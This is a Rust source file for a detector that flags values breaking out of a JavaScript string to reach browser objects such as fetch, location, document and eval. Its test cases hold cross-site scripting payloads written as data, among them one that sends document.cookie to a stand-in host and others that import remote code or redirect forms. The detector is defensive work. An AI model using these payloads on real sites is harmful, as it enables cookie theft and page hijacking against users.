//! Where a string was broken out of and a browser's objects follow: what sends, loads, moves or
//! rewrites the page, beside the calls that only proofs of concept make.
//!
//! Source: HTML Living Standard (Window, Location, Navigator, Storage); ECMAScript, section 13 (what
//! may follow a string in an expression).

/// Longest value that is looked at. Units: bytes.
const SHORT: usize = 512;
/// Most signs between the quote and the name.
const SIGNS: usize = 4;

/// Names in lower case, with the byte that must follow; 0 for any of `(`, `.`, `[`, `=` and a backtick.
const NAMES: [(&[u8], u8); 30] = [
    (b"alert", 0),
    (b"confirm", b'('),
    (b"prompt", b'('),
    (b"eval", 0),
    (b"fetch", 0),
    (b"import", b'('),
    (b"open", b'('),
    (b"settimeout", 0),
    (b"setinterval", 0),
    (b"function", 0),
    (b"location", 0),
    (b"navigator", b'.'),
    (b"localstorage", 0),
    (b"sessionstorage", 0),
    (b"document", 0),
    (b"window", 0),
    (b"globalthis", 0),
    (b"self", 0),
    (b"top", 0),
    (b"parent", 0),
    (b"frames", 0),
    (b"history", b'.'),
    (b"postmessage", b'('),
    (b"print", b'('),
    (b"image", b'('),
    (b"xmlhttprequest", 0),
    (b"websocket", b'('),
    (b"eventsource", b'('),
    (b"reflect", b'.'),
    (b"$", b'.'),
];

/// Tells whether such a name stands where a string ended too early: an even number of its quotes
/// before it, so that this one closes what is around the value. Cost: linear, for the quotes are few
/// or the value is short.
pub fn is_reached(text: &[u8]) -> bool {
    if text.len() > SHORT {
        return false;
    }
    let mut before = [0usize; 3];
    for at in memchr::memchr3_iter(b'\'', b'"', b'`', text) {
        let kind = match text[at] {
            b'\'' => 0,
            b'"' => 1,
            _ => 2,
        };
        let closes = before[kind] % 2 == 0;
        before[kind] += 1;
        if closes && follows(&text[at + 1..]) {
            return true;
        }
    }
    false
}

/// Tells whether operators, and then a name, follow a quote.
fn follows(rest: &[u8]) -> bool {
    let sign = |b: &u8| {
        matches!(
            b,
            b';' | b'-'
                | b'+'
                | b'*'
                | b'/'
                | b')'
                | b'}'
                | b']'
                | b'|'
                | b'&'
                | b'^'
                | b'?'
                | b','
        )
    };
    let signs = rest.iter().take_while(|b| sign(b)).count();
    let word = || strip(rest, b"in ").or_else(|| strip(rest, b"instanceof "));
    let rest = match signs {
        0 => word(),
        1..=SIGNS => Some(&rest[signs..]),
        _ => None,
    };
    let Some(rest) = rest else {
        return false;
    };
    let rest = strip(rest, b"new ").unwrap_or(rest);
    let named = |name: &[u8], next: u8| {
        strip(rest, name).is_some_and(|after| match after.first() {
            Some(byte) if next != 0 => *byte == next,
            Some(byte) => matches!(byte, b'(' | b'.' | b'[' | b'=' | b'`'),
            None => false,
        })
    };
    NAMES.iter().any(|(name, next)| named(name, *next))
}

/// Takes a lower-case word off the start, in any case.
fn strip<'t>(text: &'t [u8], word: &[u8]) -> Option<&'t [u8]> {
    let (start, rest) = text.split_at_checked(word.len())?;
    start.eq_ignore_ascii_case(word).then_some(rest)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strings_are_broken_out_of() {
        for text in [
            "';new Image().src='//a.example/?'+document.cookie;//",
            "\";location.href='//a.example'",
            "'-import('//a.example/m.js')-'",
            "'||location.assign('//a.example')||'",
            "'+self[name]+'",
            "'};fetch('/x').then(y);{'",
            "');$.get('//a.example');//",
            "'in alert(1) in'",
            "x';document.forms[0].action='//a.example';'",
        ] {
            assert!(is_reached(text.as_bytes()), "{text}");
        }
        for text in [
            "it's a location (new)",
            "url + '?x='+location.search",
            "{'a': 1, 'b': window.x}",
            "\"a\",\"b\",\"location\"",
            "'top';'parent'",
            "a['b'];document.x",
            "say \"hi\"; open (the door)",
        ] {
            assert!(!is_reached(text.as_bytes()), "{text}");
        }
    }
}
